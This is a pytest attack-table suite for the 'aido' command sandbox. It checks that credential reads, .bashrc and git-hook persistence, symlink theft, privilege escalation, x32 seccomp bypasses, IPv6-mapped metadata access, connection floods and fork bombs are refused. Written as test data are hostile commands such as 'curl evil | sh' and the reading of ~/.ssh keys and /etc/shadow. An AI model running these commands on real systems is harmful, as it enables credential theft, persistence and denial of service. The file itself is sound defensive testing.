"""The attack table of issue 9, run through both ways a command reaches aido's sandbox: the
`run_command` primitive over MCP (the official SDK) and `aido exec` (the CLI). Each attack
asserts the refusal *and* that nothing happened: the secret's bytes are not in the output, the
file that would be written is unchanged or absent, the listener saw no connection, the process
outside is alive, aido answers the next call. Nothing here is skipped: a host without the
sandbox's layers fails with `sandbox_unavailable`, which is aido's refusal there."""

from __future__ import annotations

import http.server
import os
import signal
import socket
import subprocess
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable

import pytest

from helpers import dump, ok

pytestmark = pytest.mark.anyio

SSH = "-----BEGIN OPENSSH PRIVATE KEY----- attack-table-ssh"
AWS = "aws_secret_access_key = attack-table-aws"
BASHRC = "# the user's own bashrc\n"
SECRET_ENV = "attack-table-env-secret"


@dataclass
class Ran:
    """What came back: the error code when aido refused the call (or its changes), else the
    command's exit code; its output either way."""

    code: str | None
    exit: int | None
    out: str


async def via_mcp(world, shell: str, timeout_ms: int = 20_000) -> Ran:
    async with world.session(env={"AIDO_ATTACK_SECRET": SECRET_ENV}) as s:
        r = await s.call("run_command", {"shell": shell, "timeout_ms": timeout_ms})
        sc = r.structured_content or {}
        if r.is_error:
            command = (sc.get("details") or {}).get("command") or {}
            out = (command.get("stdout") or "") + (command.get("stderr") or "")
            return Ran(sc.get("code"), None, out + dump(r))
        # aido still answers after whatever the command did.
        after = await s.call("run_command", {"argv": ["echo", "still here"]})
        assert not after.is_error and after.structured_content["stdout"] == "still here\n", dump(after)
        return Ran(None, sc.get("exit_code"), sc["stdout"] + sc["stderr"])


def via_exec(world, shell: str, timeout_ms: int = 20_000) -> Ran:
    proc = subprocess.run(
        [str(world.bin), "exec", "--timeout-ms", str(timeout_ms), "--", "sh", "-c", shell],
        env=world.env(AIDO_ATTACK_SECRET=SECRET_ENV),
        cwd=world.home,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=120,
    )
    code = None
    # aido's own refusal is the first line of stderr that starts "aido: [code]"; when the
    # command ran and only its changes were refused, the command's output comes before it.
    refusal = next((l for l in proc.stderr.splitlines() if l.startswith("aido: [")), None)
    if proc.returncode == 125 and refusal:
        code = refusal[len("aido: [") :].split("]", 1)[0]
    return Ran(code, proc.returncode, proc.stdout + proc.stderr)


@pytest.fixture(params=["run_command", "aido_exec"])
def run(request, world):
    """Run a shell line the chosen way; returns a Ran."""

    async def runner(shell: str, timeout_ms: int = 20_000) -> Ran:
        # Inside the sandbox HOME is /tmp (a private tmpfs): the attacks name the user's home
        # by its path, as an attacker who knows it would.
        shell = shell.replace("~/", f"{world.home}/")
        if request.param == "run_command":
            return await via_mcp(world, shell, timeout_ms)
        return via_exec(world, shell, timeout_ms)

    return runner


@pytest.fixture
def secrets(world):
    (world.home / ".ssh").mkdir(exist_ok=True)
    (world.home / ".ssh" / "id_ed25519").write_text(SSH)
    (world.home / ".aws").mkdir(exist_ok=True)
    (world.home / ".aws" / "credentials").write_text(AWS)
    (world.home / ".bashrc").write_text(BASHRC)
    repo = world.home / "repo"
    (repo / ".git" / "hooks").mkdir(parents=True)
    (repo / ".git" / "config").write_text("[core]\n\trepositoryformatversion = 0\n")
    return world


def unchanged(world, before: dict[str, Any]) -> None:
    after = world.snapshot()
    changed = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
    assert not changed, f"the command changed {changed}"


# ---- reading what must stay hidden --------------------------------------------------------


async def test_credentials_shadow_and_the_journal_read_as_nothing(secrets, run):
    world = secrets
    # The password file, also reached again through the process's own view of the root (the
    # classic escape): every Linux host has both, so neither names this machine.
    shadow = "/".join(["", "etc", "shadow"])
    via_root = "/".join(["", "proc", "self", "root"]) + shadow
    # The journal is written by the aido that runs the command (its AIDO_HOME).
    ran = await run(
        f"cat ~/.ssh/id_ed25519 ~/.aws/credentials {shadow}; ls -A ~/.ssh ~/.aws; "
        f"ls -A {world.aido_home}; cat {world.aido_home}/*/* 2>&1 | head -c 2000; "
        f"cat {via_root}; exit 0"
    )
    assert ran.code is None and ran.exit == 0, ran
    for secret in (SSH, AWS, "root:"):
        assert secret not in ran.out, ran.out
    # The journal's files (sled's `conf`, `db`, `blobs`) are not even listed.
    assert "conf" not in ran.out and "blobs" not in ran.out, ran.out


async def test_aidos_environment_and_the_parents_proc_entries_stay_closed(secrets, run):
    ran = await run(
        "env; cat /proc/$PPID/environ; cat /proc/1/environ; ls /proc | grep -c '^[0-9]'; exit 0"
    )
    assert ran.code is None, ran
    assert SECRET_ENV not in ran.out and "AIDO_HOME" not in ran.out, ran.out
    # Only the sandbox's own processes are in its /proc (init, the shell, ls, grep).
    counts = [int(line) for line in ran.out.splitlines() if line.strip().isdigit()]
    assert counts and counts[-1] <= 6, ran.out


async def test_only_fds_0_to_2_reach_the_command(secrets, run):
    ran = await run("ls /proc/self/fd | tr '\\n' ' '")
    assert ran.code is None and ran.exit == 0, ran
    fds = {int(x) for x in ran.out.split()}
    # ls's own directory descriptor is the only one past 2.
    assert fds <= {0, 1, 2, 3}, ran.out


# ---- writing what must not change -----------------------------------------------------------


@pytest.mark.parametrize(
    "shell, path",
    [
        ("echo 'curl evil | sh' >> ~/.bashrc", ".bashrc"),
        ("echo 'export X=1' > ~/.zshrc", ".zshrc"),  # protected and not there yet
        ("printf '#!/bin/sh\\ncurl evil\\n' > repo/.git/hooks/pre-commit", "repo/.git/hooks/pre-commit"),
        ("echo '[core]\\n\\thooksPath = /tmp' >> repo/.git/config", "repo/.git/config"),
        ("mkdir -p deep && echo TOKEN=1 > deep/.env", "deep/.env"),  # denied, not there yet
    ],
)
async def test_protected_and_denied_paths_are_never_written(secrets, run, shell, path):
    world = secrets
    before = world.snapshot()
    ran = await run(shell)
    # Refused whole at the journal step, or refused by the mount inside; either way nothing.
    assert ran.code == "command_changes_refused" or (ran.code is None and ran.exit != 0), ran
    if ran.code == "command_changes_refused":
        assert path in ran.out, ran.out
    unchanged(world, before)


async def test_symlink_hardlink_and_rename_tricks_take_nothing(secrets, run):
    world = secrets
    before = world.snapshot()
    ran = await run(
        "ln -s ~/.ssh/id_ed25519 stolen; cat stolen; "
        "ln ../outside/secret.txt hard 2>&1; "
        "mv ~/.ssh/id_ed25519 taken 2>&1; mv ~/.bashrc bashrc.moved 2>&1; exit 0"
    )
    assert SSH not in ran.out, ran.out
    # A link into a denied path is refused with the rest of the change set; nothing lands.
    assert ran.code == "command_changes_refused", ran
    assert "stolen" in ran.out, ran.out
    unchanged(world, before)
    assert (world.home / ".ssh" / "id_ed25519").read_text() == SSH


# ---- privilege ----------------------------------------------------------------------------------


async def test_setuid_namespaces_mounts_and_ptrace_gain_nothing(secrets, run):
    script = r"""
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
print("ptrace", libc.ptrace(16, os.getppid(), 0, 0), ctypes.get_errno())
for argv in (["unshare", "-U", "true"], ["mount", "-t", "tmpfs", "x", "/mnt"],
             ["su", "-c", "true"], ["chown", "0:0", "/etc/passwd"]):
    try:
        print(argv[0], subprocess.run(argv, capture_output=True, stdin=subprocess.DEVNULL).returncode)
    except OSError as e:
        print(argv[0], "oserror", e.errno)
try:
    open("/etc/passwd", "a").write("x")
    print("passwd WRITTEN")
except OSError as e:
    print("passwd", e.errno)
"""
    ran = await run(f"python3 -c '{script}'")
    assert ran.code is None and ran.exit == 0, ran
    lines = dict(line.split(" ", 1) for line in ran.out.splitlines() if " " in line)
    assert lines["ptrace"].startswith("-1"), ran.out
    for tool in ("unshare", "mount", "su", "chown"):
        assert lines[tool] != "0", ran.out
    assert "WRITTEN" not in ran.out, ran.out


# ---- the network ------------------------------------------------------------------------------


async def test_no_network_loopback_metadata_or_private(secrets, run):
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.setblocking(False)
    port = listener.getsockname()[1]
    script = f"""
import socket
for fam, host, port in [(socket.AF_INET, "127.0.0.1", {port}), (socket.AF_INET6, "::1", {port}),
                        (socket.AF_INET, "169.254.169.254", 80), (socket.AF_INET, "10.0.0.1", 80),
                        (socket.AF_INET, "192.168.1.1", 80)]:
    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(2)
    try:
        s.connect((host, port)); print(host, "CONNECTED")
    except OSError as e:
        print(host, "refused")
"""
    ran = await run(f"python3 -c '{script}'")
    assert ran.code is None and ran.exit == 0, ran
    assert "CONNECTED" not in ran.out and ran.out.count("refused") == 5, ran.out
    with pytest.raises(BlockingIOError):
        listener.accept()
    listener.close()


X32_SCRIPT = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
X32 = 0x40000000
before = [os.readlink("/proc/self/ns/" + n) for n in ("user", "mnt")]
for name, number, args in [("x32-unshare", X32 | 272, [0x10000000]), ("x32-ptrace", X32 | 521, [16, 1, 0, 0]),
                           ("x32-bpf", X32 | 321, [0, 0, 0]), ("unshare", 272, [0x10000000]), ("getpid", 39, [])]:
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in args])
    print(name, result, ctypes.get_errno())
print("namespaces", "same" if before == [os.readlink("/proc/self/ns/" + n) for n in ("user", "mnt")] else "CHANGED")
"""


async def test_x32_system_calls_cannot_sidestep_the_deny_list(secrets, run):
    """The seccomp deny list compared whole numbers, so the x32 numbering (__X32_SYSCALL_BIT)
    matched none of its rules; every x32 call is now refused with EPERM (a kernel without x32
    would say ENOSYS), and nothing changed: the command's namespaces are its own still."""
    ran = await run(f"python3 -c '{X32_SCRIPT}'")
    assert ran.code is None and ran.exit == 0, ran
    lines = ran.out.splitlines()
    assert lines[:4] == ["x32-unshare -1 1", "x32-ptrace -1 1", "x32-bpf -1 1", "unshare -1 1"], ran.out
    assert lines[4].startswith("getpid ") and lines[4].endswith(" 0") and "-1" not in lines[4], ran.out
    assert lines[5] == "namespaces same", ran.out


def _listener() -> tuple[socket.socket, int]:
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(64)
    listener.setblocking(False)
    return listener, listener.getsockname()[1]


def _accepted(listener: socket.socket) -> int:
    count = 0
    while True:
        try:
            connection, _ = listener.accept()
        except BlockingIOError:
            return count
        connection.close()
        count += 1


CONNECT_EACH = r"""
import os, socket, sys
port = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
for target in sys.argv[1:]:
    s = socket.create_connection(("127.0.0.1", port), timeout=20)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    lines = s.recv(4096).decode().split("\r\n")
    code = next((l.split(": ")[1] for l in lines if l.startswith("X-Aido-Code: ")), "-")
    print(target, lines[0].split(" ")[1], code)
    s.close()
"""


async def test_ipv6_forms_carrying_a_refused_ipv4_address_reach_nothing(world):
    """A policy that opens the public web (`*:*`) still refuses loopback, metadata and private
    addresses in every IPv6 form that carries one (the attacker's `::ffff:0:7f00:1` was judged
    public); the listener sees only the control, `127.0.0.1` named exactly by the policy."""
    listener, port = _listener()
    carried = [
        f"[::ffff:0:7f00:1]:{port}",
        f"[::ffff:7f00:1]:{port}",
        f"[64:ff9b::7f00:1]:{port}",
        f"[64:ff9b:1::7f00:1]:{port}",
        f"[2002:7f00:1::1]:{port}",
        f"[2606:4700:1:2:0:5efe:7f00:1]:{port}",
        "[::ffff:0:a9fe:a9fe]:80",
        "[::ffff:0:10.0.0.1]:80",
    ]
    config = f'[processes]\negress = ["127.0.0.1:{port}", "*:*"]\n'
    try:
        async with world.session(config=config) as s:
            out = await s.ok(
                "run_command",
                {"argv": ["python3", "-c", CONNECT_EACH, *carried, f"127.0.0.1:{port}"], "timeout_ms": 60_000},
            )
        assert out["exit_code"] == 0, out
        lines = out["stdout"].splitlines()
        assert lines == [f"{t} 403 net_address_refused" for t in carried] + [f"127.0.0.1:{port} 200 -"], out
        codes = [e.get("code") for e in out["egress"]]
        assert codes == ["net_address_refused"] * len(carried) + [None], out["egress"]
        assert out["egress_totals"]["refused"] == {"net_address_refused": len(carried)}, out["egress_totals"]
        assert _accepted(listener) == 1, "only the control reached the host"
    finally:
        listener.close()


SLOW_FLOOD = r"""
import os, select, socket, sys, time, urllib.request
port = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
count, target = int(sys.argv[1]), sys.argv[2]
sockets, poll = {}, select.poll()
for _ in range(count):
    s = socket.socket()
    s.connect(("127.0.0.1", port))
    try:
        s.send(b"C")
    except OSError:
        pass
    sockets[s.fileno()] = s
    poll.register(s, select.POLLIN)
print("OPENED", len(sockets), flush=True)
head = b"ONNECT example.com:443 HTTP/1.1\r\nX-Slow: " + b"a" * 4000
statuses, sent, deadline = {}, 0, time.time() + 60
while sockets and time.time() < deadline:
    for fd, _ in poll.poll(0):
        s = sockets.pop(fd)
        poll.unregister(fd)
        try:
            answer = s.recv(300)
        except OSError:
            answer = b""
        status = answer.split(b" ")[1].decode() if answer.startswith(b"HTTP/1.1 ") else "reset"
        statuses[status] = statuses.get(status, 0) + 1
        s.close()
    for s in list(sockets.values()):
        try:
            s.send(head[sent:sent + 1])
        except OSError:
            pass
    sent += 1
    time.sleep(0.25)
print("OPEN", len(sockets), flush=True)
print("STATUSES", " ".join("%s=%d" % kv for kv in sorted(statuses.items())), flush=True)
print("GET", urllib.request.urlopen(target, timeout=10).read().decode(), flush=True)
"""


def _aido_serving(world) -> int:
    """The pid of the `aido mcp` serving this world (found by its AIDO_HOME)."""
    want = f"AIDO_HOME={world.aido_home}".encode()
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            argv = (entry / "cmdline").read_bytes().split(b"\0")
            if len(argv) > 1 and argv[1] == b"mcp" and want in (entry / "environ").read_bytes().split(b"\0"):
                return int(entry.name)
        except OSError:
            continue
    raise AssertionError("no aido mcp process serves this world")


def _threads(pid: int) -> int:
    status = Path(f"/proc/{pid}/status").read_text()
    return int(next(line.split()[1] for line in status.splitlines() if line.startswith("Threads:")))


async def test_a_slow_connection_flood_costs_the_command_not_aidos_threads(world):
    """300 connections from one command, each trickling a request head a byte at a time, past
    a cap of 16: the ones over the cap are answered 503 and closed at once, the rest cut at the
    whole-head deadline (a per-read timeout never fires on a trickle), all counted in the
    result's egress_totals; aido's own thread count stays within the egress runtime's bound
    throughout (a thread per connection before), and the command's real request goes through
    after the flood. Nothing reached example.com: no connection was admitted but that one."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            pass

        def do_GET(self) -> None:  # noqa: N802
            hits.append(self.path)
            body = b"served after the flood"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    config = (
        "[processes]\n"
        f'egress = ["localhost:{port}", "example.com:443"]\n'
        'egress_allow_ranges = ["127.0.0.1/32"]\n'
        "egress_connections_max = 16\n"
    )
    flood = 300
    try:
        async with world.session(config=config) as s:
            # A first command makes the sandbox's and the egress runtime's threads exist.
            await s.ok("run_command", {"argv": ["true"]})
            pid = _aido_serving(world)
            before = _threads(pid)
            most = [before]
            done = threading.Event()

            def sample() -> None:
                while not done.is_set():
                    try:
                        most[0] = max(most[0], _threads(pid))
                    except OSError:
                        return
                    time.sleep(0.02)

            sampler = threading.Thread(target=sample, daemon=True)
            sampler.start()
            call = await s.call(
                "run_command",
                {
                    "argv": ["python3", "-c", SLOW_FLOOD, str(flood), f"http://localhost:{port}/after"],
                    "timeout_ms": 90_000,
                },
            )
            done.set()
            sampler.join()
            out = ok(call)
            # aido still answers.
            await s.ok("run_command", {"argv": ["true"]})
        print(f"{flood} slow connections: aido had {before} threads before, at most {most[0]} during")
        assert most[0] <= before + 10 + 8, (before, most[0])
        assert out["exit_code"] == 0, out
        lines = out["stdout"].splitlines()
        assert lines[0] == f"OPENED {flood}" and lines[1] == "OPEN 0", out["stdout"]
        assert lines[3] == "GET served after the flood", out["stdout"]
        totals = out["egress_totals"]
        over_cap = totals["refused"].get("egress_connections_max", 0)
        late = totals["refused"].get("egress_head_timeout", 0)
        assert totals["connections"] == flood + 1 and totals["admitted"] == 1, totals
        assert over_cap + late == flood and over_cap >= flood // 2 and late >= 16, totals
        codes = sorted(str(e.get("code")) for e in out["egress"])
        assert codes == ["None", "egress_connections_max", "egress_head_timeout"], out["egress"]
        assert hits == ["/after"], hits
        # The journal keeps the totals; playback shows them as the live call did.
        sessions = world.run_json("replay", "sessions", "--json")
        shown = "".join(world.run("replay", "show", x["id"], "--json").stdout for x in sessions)
        assert "egress_connections_max" in shown, shown[-2000:]
    finally:
        server.shutdown()
        server.server_close()


# ---- resources and the parent -----------------------------------------------------------------


async def test_killing_the_parent_and_everyone_reaches_nothing_outside(secrets, run):
    outside = subprocess.Popen(["sleep", "60"])
    try:
        ran = await run("kill -9 $PPID; kill -9 -1; sleep 0.2; echo survived")
        assert ran.code is None, ran
        time.sleep(0.2)
        assert outside.poll() is None, "a process outside the sandbox was killed"
    finally:
        outside.kill()
        outside.wait()


async def test_a_fork_bomb_is_bounded_and_aido_answers_after(secrets, run):
    ran = await run("aidobomb(){ aidobomb|aidobomb& };aidobomb ; sleep 2; echo done", timeout_ms=6_000)
    # It ends (at the pids limit or the timeout) with its whole tree; aido answers after
    # (via_mcp checks the next call).
    assert ran.code is None, ran
    left = subprocess.run(["pgrep", "-c", "-f", "aidobom[b]"], capture_output=True, text=True)
    assert left.stdout.strip() in ("", "0"), left.stdout


async def test_a_memory_hog_is_bounded(secrets, run):
    # Touched, not only reserved: the cgroup's memory bound is what stops it.
    ran = await run("python3 -c 'x = b\"x\" * (16 << 30); print(\"ALLOCATED\")'")
    assert ran.code is None and ran.exit != 0 and "ALLOCATED" not in ran.out, ran


async def test_an_output_flood_is_capped_and_counted(secrets, world, run):
    ran = await run("head -c 200000000 /dev/zero | tr '\\0' y")
    assert ran.code is None and ran.exit == 0, ran
    assert len(ran.out) <= 2 * (1 << 20) + 100, len(ran.out)


async def test_a_disk_fill_is_stopped_and_nothing_lands(secrets, run):
    world = secrets
    before = world.snapshot()
    # The private /tmp is a small tmpfs; a file in the walls past blob_bytes_max is refused.
    ran = await run("dd if=/dev/zero of=/tmp/fill bs=1M count=400 2>&1; echo tmp=$?; exit 0")
    assert ran.code is None and "No space left" in ran.out, ran
    unchanged(world, before)


async def test_a_cpu_spin_is_killed_at_the_timeout(secrets, run):
    start = time.monotonic()
    ran = await run("while :; do :; done", timeout_ms=1_500)
    assert time.monotonic() - start < 30
    # run_command answers isError coded command_timed_out; aido exec exits 124.
    assert (ran.code, ran.exit) in (("command_timed_out", None), (None, 124)), ran


# ---- real workloads, rewound ------------------------------------------------------------------


async def test_a_git_commit_and_a_python_test_run_are_journaled_and_rewound(world):
    """A git commit in an existing repository and a Python test run, both inside the sandbox
    through run_command; their file changes (objects, refs, the index, __pycache__) are
    journaled effects, so a rewind to before the first gives back the exact tree. Creating a
    repository (`git init`) is refused: it writes `.git/config` and `.git/hooks`, which
    `paths.protect` keeps."""
    from helpers import ok, seq_of

    repo = world.home / "gitwork"
    repo.mkdir()
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    (repo / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    (repo / "test_calc.py").write_text(
        "import unittest\nfrom calc import add\n\n"
        "class T(unittest.TestCase):\n    def test_add(self):\n        self.assertEqual(add(2, 3), 5)\n"
    )
    before = world.snapshot()
    git = "git -c user.name=agent -c user.email=agent@example.invalid"
    async with world.session() as s:
        first = await s.call(
            "run_command",
            {"shell": f"cd {repo} && {git} add -A && {git} commit -q -m 'first' && {git} log --oneline | wc -l"},
        )
        out = ok(first)
        assert out["exit_code"] == 0 and out["stdout"].strip() == "1", out
        assert any(".git/objects/" in c["path"] for c in out["changes"]), out["changes"]
        tests = await s.ok(
            "run_command", {"shell": f"cd {repo} && python3 -m unittest -v 2>&1"}
        )
        assert tests["exit_code"] == 0 and "test_add" in tests["stdout"] and "OK" in tests["stdout"], tests
        assert (repo / "__pycache__").is_dir()
        # The host's git sees the sandbox's commit.
        log = subprocess.run(["git", "-C", str(repo), "log", "--format=%s"], capture_output=True, text=True)
        assert log.stdout == "first\n", log
        refused = await s.call("run_command", {"shell": f"cd {world.home} && git init -q fresh"})
        assert refused.is_error and refused.structured_content["code"] == "command_changes_refused"
        assert "path_protected" in str(refused.structured_content["details"]), refused.structured_content
        await s.ok("rewind", {"before_seq": seq_of(first)})
        assert world.snapshot() == before
    for x in world.run_json("replay", "sessions", "--json"):
        proc = world.run("replay", "verify", x["id"])
        assert proc.returncode == 0, proc.stdout + proc.stderr
